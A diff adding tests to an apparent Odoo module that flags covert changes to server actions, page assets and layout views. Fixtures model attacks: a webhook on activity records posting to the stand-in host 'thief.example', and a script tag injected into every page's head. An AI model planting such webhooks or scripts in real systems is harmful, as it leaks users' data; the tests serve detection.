@@ -66,6 +66,67 @@ class TestChanges(DataSheetCommon):
         )
         self.assert_changed("Round", "added: program code “Look inside”")
 
+    def test_changed_program_code_shows(self):
+        """Even if whoever adds it calls it like something that was delivered."""
+        job = self.env.ref("customer_mindset.mindset_retention_cron")
+        job.ir_actions_server_id.code = "model._cron_run(); log('more')"
+        [change] = self.get_changes()
+        self.assertEqual(change[1], f"changed: program code “{job.name}”")
+        action = job.ir_actions_server_id.copy({"name": "Innocent"})
+        self.env["ir.model.data"].create(
+            {
+                "module": "customer_mindset",
+                "name": "mindset_innocent",
+                "model": action._name,
+                "res_id": action.id,
+            }
+        )
+        texts = [text for _table, text in self.get_changes()]
+        self.assertIn("added: program code “Innocent”", texts)
+
+    def test_an_action_on_activities_shows(self):
+        """An automation on them would learn that somebody has written or declined."""
+        self.env["ir.actions.server"].create(
+            {
+                "name": "Tell me",
+                "model_id": self.env["ir.model"]._get_id("mail.activity"),
+                "state": "webhook",
+                "webhook_url": "https://thief.example",
+            }
+        )
+        self.assert_changed(False, "added: program code “Tell me”")
+
+    def test_a_script_of_all_pages_shows(self):
+        self.env["ir.asset"].create(
+            {"name": "Keys", "bundle": "web.assets_web", "path": "/web/content/9/a.js"}
+        )
+        self.assert_changed(False, "added: script or frame “Keys”")
+
+    def test_a_changed_frame_of_all_pages_shows(self):
+        layout = self.env.ref("web.layout")
+        layout.arch = layout.arch.replace("</head>", "<script src='/x.js'/></head>")
+        self.assert_changed(False, "added: script or frame “Web layout”")
+
+    def test_an_extension_of_all_pages_shows(self):
+        parent = self.env.ref("web.layout")
+        for name in ("Banner", "On the banner"):
+            parent = self.env["ir.ui.view"].create(
+                {
+                    "name": name,
+                    "type": "qweb",
+                    "mode": "extension",
+                    "inherit_id": parent.id,
+                    "arch": "<data/>",
+                }
+            )
+        self.assertEqual(
+            [text for _table, text in self.get_changes()],
+            [
+                "added: script or frame “Banner”",
+                "added: script or frame “On the banner”",
+            ],
+        )
+
     def test_a_field_with_program_code_shows(self):
         self.env["ir.model.fields"].create(
             {
